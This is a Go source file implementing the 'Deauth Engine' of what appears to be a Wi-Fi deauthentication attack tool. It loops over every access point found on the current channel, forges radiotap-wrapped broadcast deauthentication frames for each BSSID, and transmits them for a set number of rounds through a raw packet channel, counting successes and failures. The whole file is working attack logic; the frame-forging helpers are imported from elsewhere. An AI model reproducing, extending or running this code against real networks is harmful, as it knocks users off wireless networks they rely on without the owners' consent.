// Package deauth implements the Deauth Engine (spec.md §4.6): for every
// record in the current channel's inventory, forge and transmit
// n_deauth_rounds deauthentication frames through the Raw Packet
// Channel.
package deauth

import (
	"errors"

	"github.com/bssid-zero/wiredeauth/internal/adapters/sniffer/capture"
	"github.com/bssid-zero/wiredeauth/internal/adapters/sniffer/codec"
	"github.com/bssid-zero/wiredeauth/internal/core/domain"
	"github.com/bssid-zero/wiredeauth/internal/telemetry"
)

// ErrSendFailed is wrapped and returned by DeauthAPs when any target's
// frame transmission fails; spec.md §4.6 treats this as fatal to the
// whole run, not just the one target.
var ErrSendFailed = errors.New("deauth: frame send failed")

// deauthBufLen mirrors the source's 2048-byte scratch buffer for each
// forged frame (radiotap header + management frame).
const deauthBufLen = capture.MaxFrameLen

// DeauthAPs iterates every record in inventory, always calling
// deauthOne regardless of earlier failures, and returns the first
// failure encountered (ErrSendFailed joined with the underlying send
// error). A record whose send fails stops at that round, but every later
// record still gets its rounds of frames attempted, matching the
// source's accesspoint_list_foreach driver, which never short-circuits
// on a single target's failure.
func DeauthAPs(ch capture.Channel, inventory *domain.AccessPointInventory, rounds int) error {
	var firstErr error
	inventory.ForEach(func(rec *domain.AccessPointRecord, ctx any) int {
		if err := deauthOne(ch, rec.BSSID, rounds); err != nil {
			if firstErr == nil {
				firstErr = err
			}
			return 1
		}
		return 0
	}, nil)
	return firstErr
}

// deauthOne forges one radiotap+deauth frame for bssid and transmits
// it rounds times, rewriting the sequence-control field per round
// (spec.md §4.6) before each send.
func deauthOne(ch capture.Channel, bssid domain.MAC, rounds int) error {
	buf := make([]byte, deauthBufLen)
	rtapLen := codec.ForgeRadiotap(buf)
	mgmtLen := codec.ForgeBroadcastDeauth(bssid, buf[rtapLen:])
	pktLen := rtapLen + mgmtLen

	label := bssid.String()
	for round := 0; round < rounds; round++ {
		codec.SetSequenceControl(buf[rtapLen:], round)
		if err := ch.Send(buf[:pktLen]); err != nil {
			telemetry.DeauthSendFailures.WithLabelValues(label).Inc()
			return errors.Join(ErrSendFailed, err)
		}
		telemetry.DeauthFramesSent.WithLabelValues(label).Inc()
	}
	return nil
}
